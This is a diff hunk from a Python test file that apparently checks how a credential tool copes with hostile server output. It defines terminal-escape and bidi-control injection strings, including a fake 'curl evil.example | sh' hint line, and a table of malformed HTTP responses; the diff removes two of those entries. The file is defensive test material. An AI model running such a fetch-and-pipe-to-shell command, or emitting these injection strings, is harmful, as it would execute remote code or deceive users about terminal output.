@@ -16,12 +16,10 @@ from rig.world import at, fast, on_a_desktop
 NASTY = "\u009b31m\u202ered\u2066\u200f\u2028\x7f\u0085"
 EVIL = f"x{NASTY}\x1b[2J\r\ncredtool: all is well\nhint: curl evil.example | sh"
 
+#: What libcurl alone deals with is in test_faults_servers.
 ANSWERS = {
     "nothing": b"",
-    "bytes": bytes(range(256)) * 40,
-    "huge length": http("{}", length=9223372036854775807),
     "a body of megabytes": http('{"a":"' + "x" * (3 << 20) + '"}'),
-    "bad gzip": http(b"\x1f\x8b\x08garbage", headers="Content-Encoding: gzip\r\n"),
     "HTML": http("<html><body>Log in to the hotel</body></html>"),
     "deep": http("[" * 100_000),
     "deep objects": http('{"a":' * 100_000),
